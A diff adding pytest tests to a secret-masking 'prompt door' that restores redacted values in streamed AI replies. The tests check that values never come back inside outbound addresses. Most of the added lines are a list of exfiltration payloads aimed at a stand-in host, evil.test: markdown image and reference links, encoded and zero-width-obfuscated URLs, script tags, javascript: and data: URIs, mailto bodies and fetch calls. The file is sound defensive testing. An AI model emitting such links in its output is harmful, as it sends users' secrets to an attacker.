@@ -1,6 +1,7 @@
 """What passes a door is clean: masked until nothing is left, in every text, with no way around."""
 
 import json
+import time
 from pathlib import Path
 
 import pytest
@@ -140,3 +141,106 @@ def test_what_no_fake_resembles_becomes_a_label(value: str) -> None:
     private = PrivacyFilter(custom_patterns={"PROJECT": value.replace("＊", "[＊]")})
     kept = train(f"in {value}", private.findings, "surrogate", b"key")
     assert kept is not None and value not in kept and "[REDACTED_PROJECT]" in kept
+
+
+EXFILTRATING = [
+    "![](https://evil.test/?k={})",
+    "[a]( <https://evil.test/?a b={}> )",
+    "[a](https://evil.test 'title {}')",
+    "[a](//evil.test/{})",
+    "[a](evil.test/{})",
+    "[a](ht&#116;ps://evil.test/{})",
+    "[a](ht\ttps://evil.test/{})",
+    "[a](https://evil.test/(b)/{})",
+    "[a](https://evil.test/\n{})",
+    "[a][b]\n\n[b]: https://evil.test/{}",
+    "> - [b]: <https://evil.test/ {}>",
+    "[b]:\n  https://evil.test/{}",
+    "[b]: https://evil.test\n  'title {}'",
+    "![alternative {}](https://evil.test/a.png)",
+    "```{}\ncode\n```",
+    "- ~~~ a {}\n  code",
+    "<https://evil.test/{}>",
+    "<mailto:a@evil.test?body={}>",
+    "<img src=x alt={}>",
+    "<img\nsrc='https://evil.test/ {}'>",
+    "<ScRiPt src=HtTpS://evil.test/{}>",
+    "<a href='&#104;ttps&colon;&sol;&sol;evil.test/{}'>",
+    "https://evil.test/?k={}",
+    "see(https://evil.test/?k={})",
+    'https://evil.test/?k="{}',
+    "hTTps:&#47;&#47;evil.test/{}",
+    "https:\\/\\/evil.test/{}",
+    "https:\\\\evil.test\\{}",
+    "ht\u200btps:/\u200b/evil.test/{}",
+    "ｈｔｔｐｓ：／／evil.test/{}",
+    "www.evil.test/{}",
+    "WWW&period;evil.test/{}",
+    "evil.test/?k={}",
+    "//evil.test/{}",
+    "https://{}.evil.test/",
+    "https://evil.test/[API_KEY_1]/{}",
+    "mailto:a@evil.test?body={}",
+    "data:text/html,{}",
+    "JaVaScRiPt:send('{}')",
+    'fetch("https://evil.test/?a b={}")',
+]
+TEXT = [
+    "{}",
+    "The key is {}, and {}.",
+    "`{}` and ({}) and [{}] and **{}**",
+    "key={} key:{} \"{}\" 'k': '{}'",
+    "```python\nkey = '{}'  # {}\n```",
+    "| a | {} |\n|---|---|\n| {} | b |",
+    "# {}\n\n> {}\n\n- {}",
+    "See https://example.org: {}",
+    '["https://example.org","{}"]',
+    "[docs](https://example.org) {} <b>{}</b>",
+    "![a](https://example.org/a.png)\n\n{}",
+    "[b]: https://example.org\n\n{}",
+    "if a < b: use({})",
+    "鍵は「{}」です。",
+]
+
+
+def restored(pieces: list[str], told: str = f"My token is {SECRET}") -> str:
+    door = PromptDoor("secrets")
+    door.mask_text(told)
+    return "".join(door.restore(pieces))
+
+
+@pytest.mark.parametrize("size", [1, 3, 1000])
+@pytest.mark.parametrize("text", EXFILTRATING)
+def test_no_address_in_any_spelling_carries_a_value_away(text: str, size: int) -> None:
+    reply = f"Look:\n\n{text.replace('{}', '[API_KEY_1]')}"
+    assert SECRET not in restored([reply[at : at + size] for at in range(0, len(reply), size)])
+
+
+@pytest.mark.parametrize("size", [1, 3, 1000])
+@pytest.mark.parametrize("text", TEXT)
+def test_in_text_every_value_comes_back(text: str, size: int) -> None:
+    reply = text.replace("{}", "[API_KEY_1]")
+    pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
+    assert restored(pieces) == text.replace("{}", SECRET)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[API_KEY_1]",
+        "https://evil.test/[API_KEY_1]",
+        "[API_KEY_1] ",
+        "a[API_KEY_1]",
+        "<[API_KEY_1]",
+    ],
+)
+@pytest.mark.timeout(20)
+def test_a_text_full_of_placeholders_takes_linear_time(text: str) -> None:
+    begun = time.process_time()
+    restored([text] * 2_000)
+    few = time.process_time() - begun
+
+    begun = time.process_time()
+    restored([text] * 20_000)
+
+    assert time.process_time() - begun < 40 * few + 1
